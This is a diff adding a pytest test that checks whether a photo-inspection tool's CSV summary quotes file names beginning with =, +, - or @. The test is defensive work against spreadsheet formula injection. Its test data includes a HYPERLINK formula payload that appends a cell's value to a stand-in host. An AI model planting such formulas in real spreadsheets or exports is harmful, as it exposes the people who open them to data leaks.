@@ -79,3 +79,18 @@ def test_overlay_links_hold_names_with_url_characters(tmp_path: Path) -> None:
     srcs = [part.split('"')[0] for part in page.split('src="')[1:]]
     assert sorted(srcs) == ["50%25%20rust%3F_overlay.jpg", "pier%20%233_overlay.jpg"]
     assert all((tmp_path / unquote(s)).is_file() for s in srcs)
+
+
+def test_photo_names_cannot_become_spreadsheet_formulas(tmp_path: Path) -> None:
+    """A photo named '=HYPERLINK(...).jpg' or '+cmd.jpg' put its name first in a summary.csv cell,
+    which Excel or LibreOffice run as a formula when a planner opens the file; the work-order CSV's
+    guard (csv_safe) quotes it, and the numbers stay numbers."""
+    names = ['=HYPERLINK("x.example?"&A1,"open")', "+cmd", "-2", "@SUM(A1)"]
+    for i, name in enumerate(names):
+        (tmp_path / f"p{i}.json").write_text(json.dumps(_record(f"{name}.jpg", [_rust(10.0 * (i + 1))])))
+    csv_path, _ = write_summary(tmp_path, [f"p{i}" for i in range(len(names))])
+    with open(csv_path, newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert sorted(r["photo"] for r in rows) == sorted(f"'{n}.jpg" for n in names)
+    assert all(r["overlay"][:1] not in "=+-@" for r in rows)
+    assert [r["corrosion_area_px"] for r in rows] == ["40", "30", "20", "10"]
